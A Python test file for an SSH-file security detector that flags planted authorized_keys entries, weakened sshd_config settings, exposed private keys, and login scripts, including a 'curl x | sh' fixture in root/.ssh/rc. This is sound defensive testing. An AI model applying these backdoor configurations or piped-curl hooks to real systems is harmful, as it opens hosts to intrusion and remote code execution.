from __future__ import annotations

from clew.detectors.security.ssh_files import SshFiles
from tests.kit.moments import (
    Moment,
    Thing,
    directory,
    evidence,
    facts,
    file,
    findings,
    link,
    story,
)

# made by `ssh-keygen -t ed25519 -C alice@laptop`; `ssh-keygen -lf` names the fingerprint
KEY = (
    b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKegkFY9RenvOo/vajsU+NBtkK+8iRif8HkaOVYVy+nz alice@laptop"
)
PRIVATE = b"-----BEGIN OPENSSH PRIVATE KEY-----\ncanary-7f3a\n-----END OPENSSH PRIVATE KEY-----\n"
SSHD = b"# comment\nPort 22\nPermitRootLogin no\nPasswordAuthentication no\n"


def _said(old: Moment, new: Moment) -> list[tuple[str, str, str]]:
    return [(fact.kind, fact.subject, fact.severity) for fact in facts(SshFiles(), old, new)]


def test_a_key_that_may_log_in_is_a_warning_with_its_fingerprint() -> None:
    (fact,) = facts(SshFiles(), {}, {"home/a/.ssh/authorized_keys": KEY})

    assert fact.severity == "high"
    assert fact.marks == ("+ssh-ed25519 SHA256:n+aYlhGlDitG… alice@laptop",)


def test_every_place_and_name_of_authorized_keys_counts() -> None:
    for path in (
        "root/.ssh/authorized_keys2",
        "etc/ssh/keys/bob/authorized_keys",
        "authorized_keys",
    ):
        assert _said({}, {path: KEY}) == [("security.authorized_keys", path, "high")]


def test_a_link_to_keys_elsewhere_is_a_warning() -> None:
    path = "root/.ssh/authorized_keys"

    assert _said({}, {path: link("/tmp/keys")}) == [("security.authorized_keys", path, "high")]


def test_removing_a_key_is_a_note_and_a_comment_is_nothing() -> None:
    path = "root/.ssh/authorized_keys"

    assert _said({path: KEY}, {path: b""}) == [("security.authorized_keys", path, "note")]
    assert _said({path: KEY}, {}) == [("security.authorized_keys", path, "note")]
    assert _said({path: KEY}, {path: b"# mine\n" + KEY}) == [("config.changed", path, "none")]


def test_options_of_a_key_are_not_shown() -> None:
    line = b'environment="TOKEN=canary-7f3a",command="x canary-7f3a" ' + KEY
    result = story([SshFiles()], {}, {"root/.ssh/authorized_keys": line})

    assert "canary" not in repr(result)
    assert "SHA256" in repr(result)


def test_garbage_in_authorized_keys_is_still_a_warning() -> None:
    path = "root/.ssh/authorized_keys"

    for garbage in (b"\xff\x00" * 100, b"ssh-rsa AAAA!!!", b"x" * (10 << 20), b"a\n" * 100_000):
        assert _said({}, {path: garbage}) == [("security.authorized_keys", path, "high")]
    assert _said({}, {path: file(size=1 << 30)}) == [("security.authorized_keys", path, "high")]


def test_sshd_that_lets_more_people_in_is_a_warning() -> None:
    path = "etc/ssh/sshd_config"
    weaker = {
        SSHD.replace(b"RootLogin no", b"RootLogin yes"): ("PermitRootLogin yes",),
        SSHD.replace(b"PasswordAuthentication no\n", b""): ("PasswordAuthentication yes",),
        SSHD + b"PermitEmptyPasswords yes\n": ("PermitEmptyPasswords yes",),
        SSHD + b"Match User x\n  AuthorizedKeysCommand /tmp/canary-7f3a\n": (
            "AuthorizedKeysCommand",
        ),
    }
    for text, marks in weaker.items():
        (fact,) = facts(SshFiles(), {path: SSHD}, {path: text})
        assert (fact.kind, fact.severity, fact.marks) == ("security.login", "high", marks)


def test_stricter_settings_of_sshd_are_a_note_and_others_nothing() -> None:
    path = "etc/ssh/sshd_config.d/10.conf"

    assert _said({path: b"PasswordAuthentication yes"}, {path: b"PasswordAuthentication=no"}) == [
        ("security.login", path, "note")
    ]
    assert _said({path: b"# a"}, {path: b"# b\nX11Forwarding yes"}) == []


def test_a_script_that_runs_at_login_is_a_warning() -> None:
    assert _said({}, {"root/.ssh/rc": b"curl x | sh"}) == [
        ("security.login", "root/.ssh/rc", "high")
    ]


def test_a_private_key_that_others_may_read_is_a_warning() -> None:
    path = "root/.ssh/deploy"

    assert _said({}, {path: file(PRIVATE, mode=0o644)}) == [("security.private_key", path, "high")]
    assert _said({path: file(PRIVATE, mode=0o600)}, {path: file(PRIVATE, mode=0o640)}) == [
        ("security.private_key", path, "high")
    ]
    assert _said({}, {"srv/tls.key": PRIVATE}) == [("security.private_key", "srv/tls.key", "high")]


def test_a_key_in_a_repository_is_a_note_because_git_keeps_no_finer_mode() -> None:
    new = {"app/.git/HEAD": b"ref: refs/heads/main\n", "app/dev.pem": PRIVATE}

    assert _said({"app/.git/HEAD": new["app/.git/HEAD"]}, new) == [
        ("security.private_key", "app/dev.pem", "note")
    ]


def test_keys_that_nobody_has_to_hear_of_say_nothing() -> None:
    harmless: dict[str, bytes | Thing] = {
        "etc/ssl/private/ssl-cert-snakeoil.key": file(PRIVATE, mode=0o640),
        "app/tests/server.key": PRIVATE,
        "app/node_modules/tls/key.pem": PRIVATE,
        "srv/chain.pem": b"-----BEGIN CERTIFICATE-----\n",
    }

    assert _said({}, harmless) == []


def test_a_key_that_others_cannot_reach_is_no_danger() -> None:
    closed = directory(mode=0o700)
    moments: tuple[Moment, ...] = (
        {"etc/ssl/private": directory(mode=0o710), "etc/ssl/private/web.key": PRIVATE},
        {"srv/vault": closed, "srv/vault/tls/web.pem": PRIVATE},
        {"srv/web.key": file(PRIVATE, mode=0o640, uid=1000, gid=1000)},
    )
    for moment in moments:
        assert _said({}, moment) == []
    assert _said({}, {"srv/open": directory(), "srv/open/web.key": PRIVATE}) == [
        ("security.private_key", "srv/open/web.key", "high")
    ]
    assert _said({}, {"srv/web.key": file(PRIVATE, mode=0o640, uid=1000, gid=33)})[0][2] == "note"


def test_text_about_keys_and_test_data_are_no_keys() -> None:
    quiet: Moment = {
        "srv/howto.pem": b"Paste what follows -----BEGIN PRIVATE KEY----- here\n",
        "srv/app/test_data/a.key": PRIVATE,
        "srv/app/e2e/certs/a.pem": PRIVATE,
        "srv/app/examples/tls.key": PRIVATE,
    }

    assert _said({}, quiet) == []


def test_a_key_with_a_password_is_a_note() -> None:
    key = b"-----BEGIN ENCRYPTED PRIVATE KEY-----\ncanary\n-----END ENCRYPTED PRIVATE KEY-----\n"

    assert _said({}, {"srv/web.key": key}) == [("security.private_key", "srv/web.key", "note")]


def test_a_pair_of_keys_of_ones_own_is_no_danger() -> None:
    pair: dict[str, bytes | Thing] = {
        "root/.ssh/id_ed25519": file(PRIVATE, mode=0o600),
        "root/.ssh/id_ed25519.pub": KEY,
    }

    assert _said({}, pair) == [
        ("config.added", "root/.ssh/id_ed25519", "none"),
        ("config.added", "root/.ssh/id_ed25519.pub", "none"),
    ]


def test_known_hosts_grow_quietly() -> None:
    path = "root/.ssh/known_hosts"
    (finding,) = findings(SshFiles(), evidence({path: b"a k\n"}, {path: b"a k\nb k\n"}))

    assert [(fact.kind, fact.marks) for fact in finding.facts] == [
        ("config.changed", ("+1 −0 lines",))
    ]
    assert finding.claims == (path,)


def test_no_part_of_a_private_key_is_told() -> None:
    assert "canary" not in repr(story([SshFiles()], {}, {"root/.ssh/x": PRIVATE}))
